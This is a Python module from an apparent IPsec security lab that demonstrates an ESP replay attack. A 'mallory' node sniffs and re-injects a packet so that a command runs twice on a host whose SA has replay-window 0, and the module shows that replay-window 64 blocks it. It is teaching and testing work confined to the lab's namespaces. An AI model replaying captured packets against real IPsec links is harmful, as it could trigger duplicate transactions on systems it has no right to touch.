"""replay: sending a captured ESP packet again, so that its command runs twice.

ESP's sequence number lets the receiver drop duplicates (RFC 4303 §3.4.3, the anti-replay
window of Appendix A), but only if the receiver checks: ``ip xfrm state add`` without
``replay-window`` installs an SA with a window of 0, which accepts every packet, however
often it comes. A recorded packet is valid forever; its ICV still verifies, because it is
the sender's own. Manually keyed SAs are the usual place for this (IKE sets a window).
The fix is ``replay-window 64`` (or larger): the copy is dropped and counted as ``replay``.

The attack targets only the lab's own hosts inside the topology's namespaces: h1 sends
one command to a command counter on h2 (10.2.0.10, UDP port 9001); mallory records the
ESP packet as it forwards it and sends it twice more from its own namespace.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ipseclab.attacks.common import (
    AttackResult,
    NodeTool,
    check_config,
    maybe_lab,
    run_tool,
    sa_counters,
    send_udp,
    settle,
    total,
)

NAME = "replay"
WEAK = "weak"  # topologies/attacks/replay/weak: aes128gcm16, replay-window 0
RECOMMENDED = "recommended"  # the same keys, replay-window 64
COMMAND = b"TRANSFER 100 EUR FROM alice TO mallory"
PORT = 9001


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        copies: int = 2) -> AttackResult:
    """One command from h1, ``copies`` replays from mallory; count what h2 carried out."""
    check_config(config)
    copies = max(1, min(copies, 10))
    with maybe_lab(lab, NAME, config, workdir) as lab:
        counter = NodeTool(lab, "h2", "services", "listen", str(PORT), "8")
        sniffer = NodeTool(lab, "mallory", "mallory", "sniff", "eth0", "50", "1", "5",
                           "--dst", "198.51.100.2")
        try:
            send_udp(lab, "h1", "h2", PORT, [COMMAND])
            recorded = sniffer.result()["packets"]
            if recorded:
                settle(0.2)
                run_tool(lab, "mallory", "mallory", "inject", *(recorded * copies))
            settle(0.5)
            executed = counter.finish().get("messages", [])
        finally:
            counter.stop()
            sniffer.stop()
        counters = sa_counters("gw2")
    times = sum(1 for m in executed if bytes.fromhex(m["data"]) == COMMAND)
    ok = times > 1
    seq = int(recorded[0][48:56], 16) if recorded else None
    if ok:
        evidence = (f"h1 sent {COMMAND.decode()!r} once; mallory replayed the ESP packet"
                    f" (sequence number {seq}) {copies} times; h2 carried it out {times} times")
    else:
        evidence = (f"mallory replayed the ESP packet (sequence number {seq}) {copies} times;"
                    f" h2 carried the command out {times} time(s): gw2 dropped"
                    f" {total(counters, 'replay')} replays")
    return AttackResult(NAME, config, ok, evidence,
                        details={"executed": times, "replayed": copies, "seq": seq},
                        counters=counters)
